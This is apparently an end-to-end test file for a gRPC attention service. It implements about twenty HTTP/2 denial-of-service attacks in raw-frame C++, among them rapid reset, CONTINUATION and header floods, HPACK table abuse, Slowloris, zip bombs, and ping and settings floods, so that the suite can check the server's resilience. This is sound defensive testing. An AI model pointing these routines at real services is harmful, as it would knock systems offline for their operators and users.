// SPDX-License-Identifier: Apache-2.0
#include "tests/e2e/attacks.h"

#include <grpcpp/grpcpp.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "headlight/v1/attention.grpc.pb.h"
#include "tests/e2e/raw_http2.h"
#include "tests/server/attend_fixtures.h"

namespace headlight::e2e {
namespace {

using namespace std::chrono_literals;
using testing::MakeRequest;

constexpr char kAttend[] = "/headlight.v1.AttentionService/Attend";
constexpr char kAttendStream[] = "/headlight.v1.AttentionService/AttendStream";
constexpr char kHealth[] = "/grpc.health.v1.Health/Check";

std::string OpenCall(uint32_t stream, const std::string& path, uint8_t flags = 0) {
  return Frame(kHeaders, kEndHeaders | flags, stream, CallHeaders(path));
}

std::string ResetCall(uint32_t stream) { return Frame(kReset, 0, stream, BigEndian32(8)); }

// Opens calls on one connection after the other, each reset at once.
void RapidReset(const std::string& address, const std::string& path, int count) {
  for (int connection = 0; connection < 4; ++connection) {
    RawConnection peer(address);
    if (!peer.Send(Preface())) continue;
    for (int i = 0; i < count; i += 100) {
      std::string frames;
      for (int j = i; j < i + 100; ++j) {
        const auto stream = static_cast<uint32_t>(2 * j + 1);
        frames += OpenCall(stream, path) + ResetCall(stream);
      }
      if (!peer.Send(frames)) break;
    }
    (void)peer.IsClosed(500ms);
  }
}

std::string Repeated(const std::string& bytes, int times) {
  std::string all;
  for (int i = 0; i < times; ++i) all += bytes;
  return all;
}

void SendOnce(const std::string& address, const std::string& bytes) {
  RawConnection peer(address);
  (void)peer.Send(bytes);
  (void)peer.IsClosed(300ms);
}

void HeaderFlood(const std::string& address) {
  RawConnection peer(address);
  (void)peer.Send(Preface() + Frame(kHeaders, 0, 1, CallHeaders(kAttend)));
  const std::string more = Frame(kContinuation, 0, 1, Header("x", std::string(16000, 'x')));
  for (int i = 0; i < 4000 && peer.Send(more); ++i) {
  }
}

void SmallContinuations(const std::string& address) {
  RawConnection peer(address);
  (void)peer.Send(Preface() + Frame(kHeaders, 0, 1, CallHeaders(kAttend)));
  const std::string more = Repeated(Frame(kContinuation, 0, 1, ""), 1000);
  for (int i = 0; i < 1000 && peer.Send(more); ++i) {
  }
}

void LargeAndManyHeaders(const std::string& address) {
  std::string many = CallHeaders(kAttend);
  for (int i = 0; i < 120; ++i) many += Header("h" + std::to_string(i), "value");
  for (int i = 0; i < 20; ++i) {
    SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders | kEndStream, 1, many));
    const std::string large = Header("x", std::string(60'000, 'x'));
    SendOnce(address, Preface() + Frame(kHeaders, 0, 1, CallHeaders(kAttend) + large.substr(0, 10'000)) +
                          Frame(kContinuation, 0, 1, large.substr(10'000, 16'000)) +
                          Frame(kContinuation, 0, 1, large.substr(26'000, 16'000)) +
                          Frame(kContinuation, kEndHeaders, 1, large.substr(42'000)));
  }
}

void TeHeaders(const std::string& address) {
  const std::string headers = Header(":method", "POST") + Header(":scheme", "http") +
                              Header(":path", kAttend) + Header(":authority", "a") + Header("te", "x") +
                              Header("content-type", "application/grpc");
  for (const std::string& more : {std::string(), Header("x", std::string(12'000, 'x')),
                                  Header("te", std::string(12'000, 't')), Header("x-bin", "!")}) {
    for (int i = 0; i < 10; ++i) {
      SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders | kEndStream, 1, headers + more) +
                            Frame(kHeaders, kEndHeaders | kEndStream, 3, headers + more));
    }
  }
}

void HpackTables(const std::string& address) {
  const std::string grow = HpackNumber(0x20, 5, 4096);
  SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders, 1, Repeated(grow, 5000)));
  SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders, 1,
                                      HpackNumber(0x20, 5, uint64_t{1} << 30) + CallHeaders(kAttend)));
  // Numbers without an end, a string of two gigabytes, an entry that there is not.
  SendOnce(address,
           Preface() + Frame(kHeaders, kEndHeaders, 1, std::string(1, '\x7f') + std::string(16'000, '\xff')));
  SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders, 1,
                                      std::string(1, '\0') + HpackNumber(0, 7, uint64_t{1} << 31) + "x"));
  SendOnce(address, Preface() + Frame(kHeaders, kEndHeaders, 1, HpackNumber(0x80, 7, 100'000)));
  // One entry of the table said 4,000 times in each call: a byte of it takes gRPC 390 until the call is
  // thrown away.
  RawConnection peer(address);
  (void)peer.Send(Preface());
  for (uint32_t stream = 1; stream < 601; stream += 2) {
    std::string headers = CallHeaders(kAttend);
    if (stream == 1) {
      const std::string value(3000, 'v');
      headers +=
          std::string(1, '\x40') + HpackNumber(0, 7, 5) + "x-big" + HpackNumber(0, 7, value.size()) + value;
    }
    headers += Repeated(HpackNumber(0x80, 7, 62), 4000);
    if (!peer.Send(Frame(kHeaders, kEndHeaders | kEndStream, stream, headers))) break;
  }
}

// Whether the server ends them.
bool HalfOpen(const std::string& address) {
  std::vector<RawConnection> peers;
  for (int i = 0; i < 2000; ++i) {
    peers.emplace_back(address);
    if (i % 2 == 0) (void)peers.back().Send("PRI * HTTP/2.0\r\n");
  }
  std::this_thread::sleep_for(1s);
  return peers.front().IsClosed(20s);  // the time for a handshake is over
}

void SlowLoris(const std::string& address) {
  std::vector<RawConnection> peers;
  for (int i = 0; i < 200; ++i) {
    peers.emplace_back(address);
    if (i % 2 == 0) (void)peers.back().Send(Preface());
  }
  const std::string bytes = "PRI " + OpenCall(1, kAttend);
  for (size_t i = 0; i < 4; ++i) {
    for (size_t p = 0; p < peers.size(); ++p) (void)peers[p].Send(bytes.substr(p % 2 == 0 ? 4 + i : i, 1));
    std::this_thread::sleep_for(1s);
  }
}

void Deaf(const std::string& address) {
  const std::string request = GrpcMessage(MakeRequest("demo", {1, 64, 768}).SerializeAsString());
  std::vector<std::unique_ptr<RawConnection>> peers;
  for (int i = 0; i < 8; ++i) {
    peers.push_back(std::make_unique<RawConnection>(address));
    RawConnection& peer = *peers.back();
    peer.ReadNothing();
    // A window that lets replies go until the socket is full.
    const std::string window = std::string("\0\4", 2) + BigEndian32(0x7fffffff);
    (void)peer.Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(kSettings, 0, 0, window));
    for (uint32_t stream = 1; stream < 40; stream += 2) {
      std::string frames = OpenCall(stream, kAttendStream);
      for (size_t at = 0; at < request.size(); at += 16384) {
        frames += Frame(kData, 0, stream, request.substr(at, 16384));
      }
      if (!peer.Send(frames, 200ms)) break;
    }
  }
  std::this_thread::sleep_for(4s);
}

void ZipBombs(const std::string& address) {
  RawConnection peer(address);
  (void)peer.Send(Preface());
  const std::string bomb = GrpcMessage("\x1f\x8b\x08" + std::string(1000, '\0'), /*compressed=*/true);
  for (uint32_t stream = 1; stream < 400; stream += 2) {
    const char* const encoding = stream % 4 == 1 ? "gzip" : "deflate";
    if (!peer.Send(
            Frame(kHeaders, kEndHeaders, stream, CallHeaders(kAttend) + Header("grpc-encoding", encoding)) +
            Frame(kData, kEndStream, stream, bomb))) {
      break;
    }
  }
  (void)peer.IsClosed(500ms);
}

void Flood(const std::string& address, const std::string& frame, int times) {
  for (int connection = 0; connection < 4; ++connection) {
    RawConnection peer(address);
    (void)peer.Send(Preface());
    const std::string frames = Repeated(frame, 1000);
    for (int i = 0; i < times / 1000 && peer.Send(frames); ++i) {
    }
  }
}

void DeafFlood(const std::string& address, const std::string& frame) {
  RawConnection peer(address);
  peer.ReadNothing();
  (void)peer.Send(Preface());
  const std::string frames = Repeated(frame, 1000);
  for (int i = 0; i < 2000 && peer.Send(frames, 500ms); ++i) {
  }
}

// Whether all of them end.
bool CancelledCalls(const std::string& address) {
  grpc::ChannelArguments arguments;
  arguments.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL,
                   1);  // not the connection of the caller that means well
  const auto stub = v1::AttentionService::NewStub(
      grpc::CreateCustomChannel(address, grpc::InsecureChannelCredentials(), arguments));
  const v1::AttendRequest request = MakeRequest("demo", {1, 16, 768});
  struct Call {
    grpc::ClientContext context;
    v1::AttendResponse response;
  };
  std::atomic<int> ended{0};
  std::vector<std::unique_ptr<Call>> calls;
  for (int i = 0; i < 10'000; ++i) {
    calls.push_back(std::make_unique<Call>());
    Call& call = *calls.back();
    call.context.set_deadline(std::chrono::system_clock::now() + 30s);
    stub->async()->Attend(&call.context, &request, &call.response, [&](const grpc::Status&) { ++ended; });
    if (i >= 100) calls[static_cast<size_t>(i - 100)]->context.TryCancel();
  }
  for (size_t i = calls.size() - 100; i < calls.size(); ++i) calls[i]->context.TryCancel();
  return Eventually(30s, [&] { return ended == 10'000; });
}

void UnreadStreams(const std::string& address) {
  RawConnection peer(address);
  (void)peer.Send(Preface());
  for (uint32_t stream = 1; stream < 600; stream += 2) {
    if (!peer.Send(OpenCall(stream, kAttendStream) + Frame(kData, 0, stream, std::string("\0\1\0\0\0", 5))))
      break;
  }
  std::this_thread::sleep_for(1s);
}

void Garbage(const std::string& address) {
  std::string noise;
  uint32_t state = 1;
  for (int i = 0; i < 100'000; ++i) noise += static_cast<char>((state = state * 1664525 + 1013904223) >> 24);
  for (int i = 0; i < 10; ++i) {
    SendOnce(address, noise);
    SendOnce(address, Preface() + noise);
    SendOnce(address, "GET / HTTP/1.1\r\nHost: a\r\n\r\n");
    SendOnce(address, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03");  // the beginning of TLS
  }
}

// An attack that asks nothing of the server.
std::function<bool(const std::string&)> Done(void (*attack)(const std::string& address)) {
  return [attack](const std::string& address) {
    attack(address);
    return true;
  };
}

}  // namespace

bool Eventually(std::chrono::seconds patience, const std::function<bool()>& happens) {
  const auto give_up = std::chrono::steady_clock::now() + patience;
  while (!happens() && std::chrono::steady_clock::now() < give_up) std::this_thread::sleep_for(20ms);
  return happens();
}

const std::vector<Attack>& Attacks() {
  static const auto& attacks = *new std::vector<Attack>{
      {"HeaderFlood", Done(HeaderFlood)},
      {"SmallContinuations", Done(SmallContinuations)},
      {"LargeAndManyHeaders", Done(LargeAndManyHeaders)},
      {"TeHeaders", Done(TeHeaders)},
      {"HpackTables", Done(HpackTables)},
      {"RapidReset", Done([](const std::string& address) { RapidReset(address, kAttend, 20'000); })},
      {"RapidResetOfHealth", Done([](const std::string& address) { RapidReset(address, kHealth, 20'000); })},
      {"RapidResetOfNothing",
       Done([](const std::string& address) { RapidReset(address, "/no/Such", 20'000); })},
      {"HalfOpen", HalfOpen},
      {"SlowLoris", Done(SlowLoris)},
      {"Deaf", Done(Deaf)},
      {"ZipBombs", Done(ZipBombs)},
      {"PingFlood",
       Done([](const std::string& address) { Flood(address, Frame(kPing, 0, 0, "12345678"), 100'000); })},
      {"SettingsFlood", Done([](const std::string& address) {
         Flood(address, Frame(kSettings, 0, 0, std::string("\0\4\0\0\xff\xff", 6)), 100'000);
       })},
      {"DeafPingFlood",
       Done([](const std::string& address) { DeafFlood(address, Frame(kPing, 0, 0, "12345678")); })},
      {"DeafSettingsFlood", Done([](const std::string& address) {
         DeafFlood(address, Frame(kSettings, 0, 0, std::string("\0\4\0\0\xff\xff", 6)));
       })},
      {"CancelledCalls", CancelledCalls},
      {"UnreadStreams", Done(UnreadStreams)},
      {"Garbage", Done(Garbage)},
  };
  return attacks;
}

}  // namespace headlight::e2e
